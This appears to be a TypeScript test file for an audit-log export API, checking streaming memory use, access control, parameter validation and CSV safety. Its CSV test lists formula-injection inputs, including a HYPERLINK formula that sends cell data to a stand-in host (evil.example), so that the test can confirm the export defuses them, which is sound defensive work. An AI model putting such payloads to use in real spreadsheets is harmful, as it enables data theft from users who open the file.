import { AuditOutcome } from '../../src/modules/audit/audit-event.entity';
import { appendSyntheticEvents } from '../helpers/audit';
import { basic, createKey } from '../helpers/api-keys';
import {
  addMember,
  createTeam,
  signUp,
  type SignedInUser,
  type TeamFixture,
} from '../helpers/factories';
import { seed } from '../helpers/seed';
import { rssOf, startServerProcess, type ServerProcess } from '../helpers/server-process';
import type { TestServer } from '../helpers/server';

/**
 * Export: GET /v1/audit/export streams a team's log as NDJSON or CSV. With 100,000
 * events the server process's memory stays flat (watched from outside, /proc/<pid>/status, while
 * the client reads slowly), CSV cells are quoted and defused against formula injection, and the
 * endpoint answers 401/403/404/400 like the auditEvents query would.
 */
const BULK = 100_000;
const MB = 1024 * 1024;
let t: TestServer;
let owner: SignedInUser;
let bulkTeam: TeamFixture;
let proc: ServerProcess | undefined;

beforeAll(async () => {
  ({ t, owner, team: bulkTeam } = await seed().owner('export-owner').team('Bulk export'));
  // 100,000 events in one statement. Not hash-valid (the export doesn't care), but numbered
  // after team.created (seq 1) and the chain head moved past them, so new events still append.
  const started = Date.now();
  await t.dataSource.query(
    `INSERT INTO audit_events (id, team_id, chain_seq, occurred_at, action, outcome, actor_type, actor_user_id, actor_label,
        target_type, target_id, ip, user_agent, request_id, api_key_id, metadata, prev_hash, hash)
     SELECT gen_random_uuid(), $1::uuid, 1 + g, now() - interval '1 day' + g * interval '1 millisecond', 'bulk.event',
        CASE WHEN g % 10 = 0 THEN 'DENIED' ELSE 'SUCCESS' END, 'USER', $2::uuid, $3::text, 'Team', $1::text,
        '10.0.' || (g % 200) || '.' || (g % 250), 'bulk-agent/' || g, 'bulk-' || g, NULL,
        jsonb_build_object('g', g, 'padding', repeat('p', 600)), NULL, md5(g::text)
       FROM generate_series(1, ${BULK}) AS g`,
    [bulkTeam.id, owner.id, owner.email],
  );
  await t.dataSource.query(`UPDATE audit_chain_heads SET last_seq = $2 WHERE chain_key = $1`, [
    bulkTeam.id,
    BULK + 1,
  ]);
  // What autovacuum would do after such a load. Without statistics the planner takes the team
  // for a small one and sorts all its remaining rows for every batch of 1,000 (200 ms a batch).
  await t.dataSource.query(`ANALYZE audit_events`);
  console.info(`inserted ${BULK} events in ${Date.now() - started} ms`);
  // The heap is capped below the size of the export (~115 MB of NDJSON): a server that gathered
  // the export in memory would die. The cap also makes V8 collect as it goes instead of letting
  // garbage pile up, so RSS shows what the export really holds.
  proc = await startServerProcess({ poolSize: 4, nodeArgs: ['--max-old-space-size=128'] });
}, 180_000);

afterAll(async () => {
  await proc?.stop();
  await t.close();
});

interface Watched {
  lines: number;
  baselineMb: number;
  peakMb: number;
  ms: number;
}

/**
 * Downloads an export from the server process, reading the body chunk by chunk (and pausing
 * for 2 s a fifth of the way in, as a slow client would), while sampling the server's RSS every
 * 20 ms. `onLine` sees every line.
 */
async function watchedExport(
  query: string,
  onLine: (line: string, index: number) => void,
): Promise<Watched> {
  const baselineSamples: number[] = [];
  for (let i = 0; i < 10; i++) {
    baselineSamples.push(rssOf(proc!.pid));
    await new Promise((r) => setTimeout(r, 20));
  }
  const baseline = Math.max(...baselineSamples);
  let peak = baseline;
  let gone = false;
  const sampler = setInterval(() => {
    try {
      peak = Math.max(peak, rssOf(proc!.pid));
    } catch {
      gone = true; // the server process died (out of memory?)
    }
  }, 20);
  const started = Date.now();
  try {
    const res = await fetch(`${proc!.url}/v1/audit/export?${query}`, { headers: owner.headers });
    expect(res.status).toBe(200);
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    let rest = '';
    let lines = 0;
    let paused = false;
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      rest += decoder.decode(value, { stream: true });
      let nl: number;
      while ((nl = rest.search(/\r?\n/)) >= 0) {
        onLine(rest.slice(0, nl), lines++);
        rest = rest.slice(rest[nl] === '\r' ? nl + 2 : nl + 1);
      }
      if (!paused && lines > BULK / 5) {
        paused = true;
        await new Promise((r) => setTimeout(r, 2_000));
      }
    }
    expect(rest).toBe('');
    expect(gone).toBe(false);
    return { lines, baselineMb: baseline / MB, peakMb: peak / MB, ms: Date.now() - started };
  } finally {
    clearInterval(sampler);
  }
}

describe('exporting 100,000 events', () => {
  it('warms up', async () => {
    // the first request loads code paths; memory is measured from a warm process
    const res = await fetch(`${proc!.url}/v1/audit/export?teamId=${bulkTeam.id}&outcome=DENIED`, {
      headers: owner.headers,
    });
    expect(res.status).toBe(200);
    expect((await res.text()).split('\n').filter(Boolean).length).toBe(BULK / 10);
  }, 60_000);

  it('NDJSON: every event once, oldest first, while the server process stays flat', async () => {
    let last = 0;
    let bad = 0;
    const watched = await watchedExport(
      `teamId=${bulkTeam.id}&format=ndjson&actions=bulk.event`,
      (line) => {
        const event = JSON.parse(line);
        if (
          event.metadata.g !== last + 1 ||
          event.action !== 'bulk.event' ||
          event.teamId !== bulkTeam.id
        )
          bad++;
        last = event.metadata.g;
      },
    );
    console.info(
      `NDJSON export: ${watched.lines} lines in ${watched.ms} ms; server RSS ${watched.baselineMb.toFixed(1)} MB -> peak ${watched.peakMb.toFixed(1)} MB`,
    );
    expect(watched.lines).toBe(BULK);
    expect(bad).toBe(0);
    expect(last).toBe(BULK);
    expect(watched.peakMb - watched.baselineMb).toBeLessThan(60);
  }, 120_000);

  it('CSV: a header and every event, memory flat too', async () => {
    let header = '';
    const watched = await watchedExport(
      `teamId=${bulkTeam.id}&format=csv&actions=bulk.event`,
      (line, i) => {
        if (i === 0) header = line;
      },
    );
    console.info(
      `CSV export: ${watched.lines} lines in ${watched.ms} ms; server RSS ${watched.baselineMb.toFixed(1)} MB -> peak ${watched.peakMb.toFixed(1)} MB`,
    );
    expect(header).toBe(
      'id,occurredAt,teamId,action,outcome,actorType,actorUserId,actorApiKeyId,actorLabel,targetType,targetId,ip,userAgent,requestId,metadata,prevHash,hash,chainSeq,apiKeyId',
    );
    expect(watched.lines).toBe(BULK + 1);
    expect(watched.peakMb - watched.baselineMb).toBeLessThan(60);
  }, 120_000);

  it('filters apply to the export as to the query, and the export itself is audited', async () => {
    const res = await fetch(
      `${t.url}/v1/audit/export?teamId=${bulkTeam.id}&outcome=DENIED&actions=bulk.event`,
      { headers: owner.headers },
    );
    const lines = (await res.text())
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toHaveLength(BULK / 10);
    expect(lines.every((e) => e.outcome === 'DENIED' && e.metadata.g % 10 === 0)).toBe(true);
    const requestId = res.headers.get('x-request-id');
    const [row] = await t.dataSource.query(
      `SELECT action, outcome, actor_user_id, metadata FROM audit_events WHERE request_id = $1`,
      [requestId],
    );
    expect(row).toEqual({
      action: 'audit.exported',
      outcome: 'SUCCESS',
      actor_user_id: owner.id,
      metadata: { format: 'ndjson', filter: { actions: ['bulk.event'], outcome: 'DENIED' } },
    });
  }, 60_000);
});

/** RFC 4180: cells separated by commas, quoted cells with "" for a quote, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || record.length) throw new Error('CSV does not end with CRLF');
  return records;
}

describe('CSV cells', () => {
  it('are quoted when they must be, and never start a formula', async () => {
    const team = await createTeam(t, owner, 'CSV');
    const tricky = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+1+2',
      '-2+3',
      '@SUM(1,2)',
      '\tcmd',
      '\rcmd',
      'plain agent',
      'a "quoted", comma',
      'two\r\nlines',
      'x=1 (not at the start)',
    ];
    await appendSyntheticEvents(t, team.id, tricky.length, (i) => ({
      action: 'test.csv',
      userAgent: tricky[i],
      actorLabel: i === 0 ? '-label' : 'label',
      metadata: { text: tricky[i] },
      outcome: AuditOutcome.FAILURE,
    }));
    const res = await fetch(
      `${t.url}/v1/audit/export?teamId=${team.id}&format=csv&actions=test.csv`,
      { headers: owner.headers },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="audit-${team.id}.csv"`,
    );
    expect(res.headers.get('cache-control')).toBe('no-store');
    const [header, ...rows] = parseCsv(await res.text());
    const col = (name: string) => header.indexOf(name);
    expect(rows).toHaveLength(tricky.length);
    rows.forEach((row, i) => {
      expect(row).toHaveLength(header.length);
      const value = tricky[i];
      expect(row[col('userAgent')]).toBe(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
      expect(JSON.parse(row[col('metadata')])).toEqual({ text: value });
      expect(row[col('outcome')]).toBe('FAILURE');
    });
    expect(rows[0][col('actorLabel')]).toBe("'-label");
    // no cell, as a spreadsheet reads it, starts with a formula character
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('who may export, and with what', () => {
  let team: TeamFixture;
  let member: SignedInUser;
  let stranger: SignedInUser;

  beforeAll(async () => {
    team = await createTeam(t, owner, 'Export access');
    member = await signUp(t, 'export-member');
    stranger = await signUp(t, 'export-stranger');
    await addMember(t, owner, team.id, member.email, team.roles.Member);
    await createTeam(t, stranger, 'Stranger team');
  });

  const get = async (query: string, headers: Record<string, string> = {}) => {
    const res = await fetch(`${t.url}/v1/audit/export?${query}`, {
      headers,
      signal: AbortSignal.timeout(10_000),
    });
    const text = await res.text().catch((error: Error) => `<body failed: ${error.message}>`);
    let code: string | null = null;
    try {
      code = res.status === 200 ? null : JSON.parse(text).errors[0].extensions.code;
    } catch {
      code = `unparsable: ${text.slice(0, 200)}`;
    }
    return { status: res.status, text, code };
  };

  it('401 anonymous or bad credentials, 403 without audit:read, 404 another team, 200 with audit:read', async () => {
    expect(await get(`teamId=${team.id}`)).toMatchObject({ status: 401, code: 'UNAUTHENTICATED' });
    expect(await get(`teamId=${team.id}`, { authorization: 'Bearer emst_nope' })).toMatchObject({
      status: 401,
      code: 'UNAUTHENTICATED',
    });
    expect(await get(`teamId=${team.id}`, member.headers)).toMatchObject({
      status: 403,
      code: 'FORBIDDEN',
    });
    expect(await get(`teamId=${team.id}`, stranger.headers)).toMatchObject({
      status: 404,
      code: 'NOT_FOUND',
    });
    expect(await get(`teamId=00000000-0000-4000-8000-000000000000`, owner.headers)).toMatchObject({
      status: 404,
      code: 'NOT_FOUND',
    });
    const reader = await createKey(t, owner, team.id, { scopes: ['audit:read'] });
    const plain = await createKey(t, owner, team.id, { scopes: ['team:read'] });
    const ok = await get(`teamId=${team.id}`, basic(reader.key, reader.secret));
    expect(ok.status).toBe(200);
    expect(
      ok.text
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l).action),
    ).toContain('team.created');
    expect(await get(`teamId=${team.id}`, basic(plain.key, plain.secret))).toMatchObject({
      status: 403,
      code: 'FORBIDDEN',
    });
    expect(await get(`teamId=${team.id}`, basic(reader.key, `${reader.secret}x`))).toMatchObject({
      status: 401,
    });
  });

  it('400 for bad parameters, before anything is streamed', async () => {
    const bad = [
      '',
      'teamId=nope',
      `teamId=${team.id}&format=xml`,
      `teamId=${team.id}&from=yesterday`,
      `teamId=${team.id}&to=not-a-date`,
      `teamId=${team.id}&outcome=MAYBE`,
      `teamId=${team.id}&apiKeyId=nope`,
      `teamId=${team.id}&actorUserId=1`,
      `teamId=${team.id}&targetId=x`,
      `teamId=${team.id}&actions=${encodeURIComponent('not an action')}`,
      `teamId=${team.id}&actions=a.b&actions=c.d`,
      `teamId=${team.id}&format=csv&format=ndjson`,
      `teamId=${team.id}&teamId=${team.id}`,
    ];
    for (const query of bad) {
      const res = await get(query, owner.headers);
      expect({ query, status: res.status, code: res.code }).toEqual({
        query,
        status: 400,
        code: 'BAD_USER_INPUT',
      });
    }
    // refused exports are not filed as exports
    const exports = async () =>
      (
        await t.dataSource.query(
          `SELECT count(*)::int AS n FROM audit_events WHERE team_id = $1 AND action = 'audit.exported'`,
          [team.id],
        )
      )[0].n;
    const before = await exports();
    for (const query of bad) await get(query, owner.headers);
    expect(await exports()).toBe(before);
  });
});
